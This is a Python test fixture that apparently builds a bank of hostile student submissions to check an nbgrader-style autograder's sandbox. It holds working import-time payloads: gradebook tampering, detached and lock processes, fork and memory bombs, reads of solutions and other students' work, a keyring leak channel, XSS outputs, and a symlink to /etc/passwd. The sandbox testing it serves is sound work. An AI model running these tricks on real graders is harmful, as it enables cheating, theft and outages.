"""The bank of hostile submissions ``test_hostile_submissions.py`` grades in one batch.

Each is a small change to the solutions, the starters or the partial sample: code appended to its
``records.py`` that runs when the module is imported (every notebook that imports the package, through
``provided/stores.py`` too), at interpreter exit, or in a process it detaches. The code finds the course
the way a student would: walking up from the kernel's cwd (nbgrader starts kernels in
``autograded/STUDENT/compaction_labs``), else at the course path it knows (an attacker may know the
layout), and the solutions through the editable install (``workbook.paths``) or their known path.

``expected`` is the honest score per lab (autograded points out of 8): what the submission's own lab
code deserves, unchanged by the trick when the sandbox holds. ``effect`` names what the trick does when
its module is imported with no sandbox at all (``test_every_trick_works_without_a_sandbox`` checks it,
so the bank proves its power); bombs have none (run unsandboxed, they would take the machine down), nor do the
tricks on the judge's reports (a forged crash text, a signal from the hidden cases' sandbox) and what the grader
must survive from a careless student (a malformed timestamp received late, ``input()`` left in lab 5, names
that are not UTF-8), nor what aims at the instructor's browser or the grader's memory rather than the sandbox
(outputs and a written answer holding scripts, an image and links that run code, a widget; an output bomb of
``BOMB_OUTPUTS`` outputs of ``BOMB_CHARS`` characters in every notebook). The keyring trick posts what it reads (the
hidden cases' inputs, in a runner) in a key of its uid's kernel keyring that every uid may read, and replays a key
posted earlier: every later sandbox of the slot would find it.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path

from workbook.authoring.samples import blank, complete, partial
from workbook.course.layout import LAB_MODULES
from workbook.course.submit import answer_written_questions
from workbook.paths import SOLUTIONS

PRELUDE = """

# ---- hostile code from tests/hostile_bank.py: runs when this module is imported ----
import os as _os
import sys as _sys
from pathlib import Path as _Path

_COURSE, _REPO, _STUDENT, _MARKER = {course!r}, {repo!r}, {student!r}, {marker!r}


def _course():
    for folder in [_Path.cwd(), *_Path.cwd().parents]:
        if (folder / "gradebook.db").is_file():
            return folder
    return _Path(_COURSE)


def _gradebook():
    import sqlite3
    return sqlite3.connect(f"file:{{_course() / 'gradebook.db'}}?mode=rw", uri=True, timeout=2)


def _solutions():
    try:
        from workbook.paths import SOLUTIONS
        return SOLUTIONS
    except Exception:
        return _Path(_REPO) / "solutions" / "compaction_lab"


def _report(what):
    print(f"HOSTILE {{_STUDENT}}: {{what}}", flush=True)


try:
{trick}
except Exception as _error:
    _report(f"failed: {{type(_error).__name__}}: {{_error}}")
"""

RAISE_EVERY_GRADE = """
_db = _gradebook()
_db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id), "
            "needs_manual_grade = 0")
_db.commit()
_report("raised every grade in the gradebook")
"""

ATEXIT = """
import atexit


def _at_exit():
    try:
        _db = _gradebook()
        _db.execute("UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells "
                    "WHERE grade_cells.id = grade.cell_id), needs_manual_grade = 0")
        _db.commit()
        (_course() / "pwned-at-exit").write_text("written at exit")
    except Exception:
        pass


atexit.register(_at_exit)
_report("registered an exit hook")
"""

DETACHED_WRITER = '''
import subprocess
import textwrap
_code = textwrap.dedent(f"""
import pathlib, sqlite3, time
for _ in range(1200):
    try:
        db = sqlite3.connect("file:" + {str(_course() / 'gradebook.db')!r} + "?mode=rw", uri=True, timeout=1)
        db.execute("UPDATE grade SET manual_score = 0, needs_manual_grade = 0")
        db.commit()
        pathlib.Path({str(_course())!r}, "pwned-detached").write_text("written after grading")
        break
    except Exception:
        time.sleep(0.25)
""")
subprocess.Popen([_sys.executable, "-c", _code, _MARKER], start_new_session=True, cwd="/",
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
_report("started a detached gradebook writer")
'''

OTHER_STUDENTS_ROWS = """
_db = _gradebook()
_db.execute("UPDATE grade SET manual_score = 0, needs_manual_grade = 0 WHERE notebook_id IN (SELECT sn.id FROM "
            "submitted_notebook sn JOIN submitted_assignment sa ON sn.assignment_id = sa.id WHERE sa.student_id != ?)",
            (_STUDENT,))
_db.execute("UPDATE student SET first_name = 'pwned' WHERE id != ?", (_STUDENT,))
_db.commit()
_report("rewrote the other students' rows")
"""

STORED_TEST_CELLS = """
_db = _gradebook()
_db.execute("UPDATE source_cell SET source = 'pass' WHERE locked = 1")
_db.commit()
_report("rewrote the stored test cells")
"""

EDIT_SOURCE = """
_assignment = _course() / "source" / "compaction_labs"
with open(_assignment / "compaction_lab" / "provided" / "checks.py", "a") as _checks:
    _checks.write("\\n\\ndef expect(*args, **kwargs):\\n    return None\\n")
(_assignment / "pwned.txt").write_text("planted in source/")
_report("edited source/")
"""

LOCK = '''
import subprocess
import textwrap
_code = textwrap.dedent(f"""
import sqlite3, time
db = sqlite3.connect("file:" + {str(_course() / 'gradebook.db')!r} + "?mode=rw", uri=True, isolation_level=None)
db.execute("BEGIN EXCLUSIVE")
time.sleep(300)
""")
subprocess.Popen([_sys.executable, "-c", _code, _MARKER], start_new_session=True, cwd="/",
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
_report("started a process holding the gradebook's lock")
'''

READ_SECRETS = """
_targets = {
    "source notebook": sorted((_course() / "source" / "compaction_labs").glob("*.ipynb"))
    or [_Path(_COURSE, "source", "compaction_labs", "01_record_parsing.ipynb")],
    "graded notebook": sorted(_Path.cwd().glob("*.ipynb")),
    "gradebook": [_course() / "gradebook.db"],
    "solution": [_solutions() / "records.py", _solutions() / "budget.py"],
    "other submission": sorted((_course() / "submitted").glob("*/compaction_labs/compaction_lab/budget.py"))
    or [_Path(_COURSE, "submitted", "s08_control_complete", "compaction_labs", "compaction_lab", "budget.py")],
    "process": sorted(_Path("/proc").glob("[0-9]*/cmdline")),
}
for _what, _paths in _targets.items():
    for _path in _paths:
        try:
            _report(f"read {_what} {_path}:\\n{_Path(_path).read_bytes().decode('utf-8', 'replace')}")
        except Exception as _error:
            _report(f"could not read {_what} {_path}: {type(_error).__name__}")
"""

RUN_SOLUTIONS = """
import importlib.util
for _candidate in [_solutions() / "records.py", _Path(_REPO, "solutions", "compaction_lab", "records.py")]:
    try:
        _spec = importlib.util.spec_from_file_location("compaction_lab._solved_records", _candidate)
        _solved = importlib.util.module_from_spec(_spec)
        _spec.loader.exec_module(_solved)
    except Exception as _error:
        _report(f"could not run {_candidate}: {type(_error).__name__}")
        continue
    parse_session_entry = _solved.parse_session_entry
    parse_compaction_entry = _solved.parse_compaction_entry
    _report("running the solutions")
    break
"""

PLANT = """
_Path("hidden_tests.html").write_text("planted by the kernel in its folder")
_feedback = _course() / "feedback" / _STUDENT / "compaction_labs"
_feedback.mkdir(parents=True, exist_ok=True)
(_feedback / "planted.html").write_text("planted by the kernel in the feedback folder")
_report("planted files")
"""

MEMORY_BOMB = """
_held = []
try:
    while len(_held) < 64:
        _held.append(b"\\x01" * (64 << 20))
    _report(f"allocated {64 * len(_held)} MiB")
except MemoryError:
    _report(f"MemoryError after {64 * len(_held)} MiB")
finally:
    _held.clear()
"""

FORK_BOMB = """
import ctypes
import time
_children = 0
try:
    while _children < 1000:
        if _os.fork() == 0:
            try:
                ctypes.CDLL(None).prctl(15, _MARKER[:15].encode(), 0, 0, 0)
                time.sleep(3600)
            finally:
                _os._exit(0)
        _children += 1
    _report(f"forked {_children} children")
except OSError as _error:
    _report(f"fork failed after {_children} children: {type(_error).__name__}")
"""

FORGED_CRASH = """
import compaction_lab.provided.checking.wire as _wire
_real_observe = _wire.observe


def _forged(function, args, kwargs):
    report = _real_observe(function, args, kwargs)
    report["crashed"] = "FORGED " + repr(args)[:400]  # beside the result: the old judge quoted it in the status
    return report


_wire.observe = _forged
_report("forges crash reports carrying the inputs")
"""

HIDDEN_CHANNEL = """
import json as _json
if _sys.argv and _sys.argv[0].endswith("runner.py"):
    _package = _Path(__file__).parent
    _visible = _json.loads((_package / "provided" / "checking" / "visible.json").read_text())["cases"]
    _shown = {_json.dumps([case["function"], case["args"]], sort_keys=True) for case in _visible}
    _cases = _json.loads(_Path(_sys.argv[1]).read_text())
    _calls = [_json.dumps([case["function"], case["args"]], sort_keys=True) for case in _cases]
    if any(call not in _shown and "id-" not in call for call in _calls):  # the hidden cases' sandbox
        import compaction_lab.provided.checking.wire as _wire
        _real_observe = _wire.observe

        def _signal(function, args, kwargs):  # a renamed case fails: the old judge showed it on a visible case
            report = _real_observe(function, args, kwargs)
            if "id-" in _json.dumps([args, kwargs]):
                return {"returned": "a bit for the feedback page", "shared": [], "inputs_after": [args, kwargs]}
            return report

        _wire.observe = _signal
_report("signals from the hidden cases' sandbox by failing renamed cases")
"""

ACTIVE_CONTENT = """
from IPython import get_ipython as _get_ipython
if _get_ipython() is not None:  # in a notebook's kernel, not in the judge's runners
    from IPython.display import HTML as _HTML, Javascript as _Javascript, Markdown as _Markdown, display as _display
    _report("displays active content")
    _display(_HTML("<p><strong>shown bold</strong><script>window.__pwned = 'script'</script>"
                   "<img src=x onerror=\\"window.__pwned = 'img'\\">"
                   "<a href=\\"javascript:window.__pwned = 'link'\\">a link</a></p>"))
    _display(_Javascript("window.__pwned = 'javascript output'"))
    _display({"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2, "version_minor": 0},
              "text/plain": "a widget"}, raw=True)
    _display(_Markdown("[a markdown link](javascript:window.__pwned='markdown') <script>window.__pwned = 1</script>"))
"""

ACTIVE_ANSWER = (
    "My answer is **strict**: <script>window.__pwned = 'answer'</script> "
    "<img src=x onerror=\"window.__pwned = 'answer img'\"> [a link](javascript:window.__pwned='answer-link')"
)
"""The written answers of the submission with active content: formatting, a script, an image and a link that run
code."""

BOMB_OUTPUTS, BOMB_CHARS = 12, 3 << 20
OUTPUT_BOMB = f"""
from IPython import get_ipython as _get_ipython
if _get_ipython() is not None:
    from IPython.display import HTML as _HTML, display as _display
    _report("displays {BOMB_OUTPUTS} outputs of {BOMB_CHARS} characters")
    for _index in range({BOMB_OUTPUTS}):
        if _index % 2:
            print("B" * {BOMB_CHARS}, flush=True)
        else:
            _display(_HTML("<p>" + "B" * {BOMB_CHARS} + "</p>"))
"""

KEYRING = """
import ctypes as _ctypes
import errno as _errno
import platform as _platform
_ADD_KEY, _KEYCTL = {"x86_64": (248, 250), "aarch64": (217, 219)}[_platform.machine()]
_USER_KEYRING, _SETPERM, _SEARCH, _READ = _ctypes.c_long(-4), 5, 10, 11
_libc = _ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = _ctypes.c_long
_name = f"workbook-keyring-{_MARKER}".encode()
_key = _libc.syscall(_KEYCTL, _SEARCH, _USER_KEYRING, b"user", _name, _ctypes.c_long(0))
if _key >= 0:
    _buffer = _ctypes.create_string_buffer(1 << 15)
    _size = _libc.syscall(_KEYCTL, _READ, _ctypes.c_long(_key), _buffer, _ctypes.c_long(len(_buffer)))
    _report("replayed a key: " + _buffer.raw[: max(_size, 0)].decode("utf-8", "replace"))
else:
    _report(f"found no key: {_errno.errorcode.get(_ctypes.get_errno())}")
if _sys.argv and _sys.argv[0].endswith("runner.py"):
    _payload = _Path(_sys.argv[1]).read_bytes()[:30000]  # the cases, hidden ones among them, with their inputs
else:
    _payload = f"posted at import in {_os.getcwd()}".encode()
_posted = _libc.syscall(_ADD_KEY, b"user", _name, _payload, _ctypes.c_long(len(_payload)), _USER_KEYRING)
if _posted >= 0:
    _libc.syscall(_KEYCTL, _SETPERM, _ctypes.c_long(_posted), _ctypes.c_long(0x3F3F3F3F))  # every uid may read it
    _report(f"posted key {_posted} of {len(_payload)} bytes")
else:
    _report(f"could not post: {_errno.errorcode.get(_ctypes.get_errno())}")
"""

COMPLETE, BLANK, PARTIAL = [8] * 5, [0] * 5, [8, 8, 0, 0, 0]
NOT_UTF8 = "03_budget_projection-\udcff\udcfe.ipynb"
"""A notebook name made by a script or another system: the bytes ``\\xff\\xfe`` are not UTF-8 (``os`` gives them as
surrogates)."""


@dataclass(frozen=True)
class Submission:
    """One student of the bank: built from ``base`` (a ``workbook.course.submit`` sample), with ``trick``
    appended to ``records.py``, ``extra_files`` (path relative to the submission -> text), lab modules
    replaced by symlinks to the solutions (``symlinked``), other ``links`` (path -> target), its ``timestamp``
    text, the ``answer`` written in lab 1's answer cells (none: left as released), and received an hour after
    the due date (``late``) or an hour before it."""

    student: str
    base: str
    expected: list[int] | None
    trick: str = ""
    effect: str = ""
    extra_files: dict[str, str] = field(default_factory=dict)
    symlinked: bool = False
    timestamp: str | None = None
    links: dict[str, str] = field(default_factory=dict)
    late: bool = False
    answer: str = ""


BANK = (
    Submission("s01_db_write", "blank", BLANK, RAISE_EVERY_GRADE, effect="gradebook"),
    Submission("s02_db_at_exit", "blank", BLANK, ATEXIT, effect="gradebook"),
    Submission("s03_db_detached", "blank", BLANK, DETACHED_WRITER, effect="gradebook"),
    Submission("s04_other_rows", "partial", PARTIAL, OTHER_STUDENTS_ROWS, effect="gradebook"),
    Submission("s05_test_cells", "blank", BLANK, STORED_TEST_CELLS, effect="gradebook"),
    Submission("s06_edit_source", "blank", BLANK, EDIT_SOURCE, effect="source"),
    Submission("s07_lock", "complete", COMPLETE, LOCK, effect="lock"),
    Submission("s08_control_complete", "complete", COMPLETE),
    Submission("s09_read_secrets", "blank", BLANK, READ_SECRETS, effect="leak"),
    Submission("s10_run_solutions", "blank", BLANK, RUN_SOLUTIONS, effect="solved"),
    Submission("s11_symlinks", "blank", None, symlinked=True),
    Submission(
        "s12_plant_feedback",
        "complete",
        COMPLETE,
        PLANT,
        effect="planted",
        extra_files={"06_planted.html": "planted by the student", "compaction_lab/provided/notes.html": "x"},
    ),
    Submission("s13_memory_bomb", "complete", COMPLETE, MEMORY_BOMB),
    Submission("s14_fork_bomb", "complete", COMPLETE, FORK_BOMB),
    Submission("s15_bad_timestamp", "partial", PARTIAL, timestamp="next Tuesday; honest", late=True),
    Submission("s16_control_blank", "blank", BLANK),
    Submission("s17_forged_crash", "complete", [0, 8, 8, 8, 8], FORGED_CRASH),
    Submission("s18_hidden_channel", "complete", [5, 8, 8, 8, 8], HIDDEN_CHANNEL),
    Submission("s19_asks_input", "asks_input", [8, 8, 8, 8, 0]),
    Submission("s20_not_utf8_notebook", "complete", None, extra_files={NOT_UTF8: "{}"}),
    Submission("s21_not_utf8_link", "blank", None, links={f"compaction_lab/{NOT_UTF8[:-6]}.py": "/etc/passwd"}),
    Submission("s22_active_content", "complete", COMPLETE, ACTIVE_CONTENT, answer=ACTIVE_ANSWER),
    Submission("s23_output_bomb", "complete", COMPLETE, OUTPUT_BOMB),
    Submission("s24_keyring", "blank", BLANK, KEYRING, effect="keyring"),
)
"""Graded in this order (by student id): both controls come after the tricks that would change later students."""


def asks_input(dest: Path) -> Path:
    """The solutions with a call of ``input()`` left at the start of lab 5's ``resume_point``."""
    complete(dest)
    module = dest / "resumption.py"
    source = module.read_text(encoding="utf-8")
    start = source.index("# BEGIN LAB 5")
    indent = source[source.rindex("\n", 0, start) + 1 : start]
    module.write_text(source.replace("# BEGIN LAB 5", f"input('which entry? ')\n{indent}# BEGIN LAB 5", 1))
    return dest


BASES = {"complete": complete, "blank": blank, "partial": partial, "asks_input": asks_input}


def hostile_code(submission: Submission, course: Path, repo: Path, marker: str) -> str:
    """The code appended to ``records.py``: the prelude with ``submission``'s trick, indented into its try."""
    trick = "\n".join(f"    {line}" if line else "" for line in submission.trick.strip("\n").splitlines())
    return PRELUDE.format(course=str(course), repo=str(repo), student=submission.student, marker=marker, trick=trick)


def build_package(submission: Submission, dest: Path, course: Path, repo: Path, marker: str) -> Path:
    """Write ``submission``'s package folder to ``dest`` (its base with the trick appended to ``records.py``)."""
    BASES[submission.base](dest)
    if submission.trick:
        records = dest / "records.py"
        records.write_text(
            records.read_text(encoding="utf-8") + hostile_code(submission, course, repo, marker), encoding="utf-8"
        )
    return dest


def finish_submission(submission: Submission, folder: Path) -> None:
    """Give the placed submission ``folder`` its extra files, symlinked lab modules, timestamp text and lab 1
    answers."""
    if submission.answer:
        answer_written_questions(folder / "01_record_parsing.ipynb", submission.answer)
    for relative, text in submission.extra_files.items():
        (folder / relative).parent.mkdir(parents=True, exist_ok=True)
        (folder / relative).write_text(text, encoding="utf-8")
    if submission.symlinked:
        for module in LAB_MODULES:
            (folder / module).unlink()
            (folder / module).symlink_to(SOLUTIONS.parent / module)
    for relative, target in submission.links.items():
        (folder / relative).symlink_to(target)
    if submission.timestamp is not None:
        (folder / "timestamp.txt").write_text(submission.timestamp, encoding="utf-8")
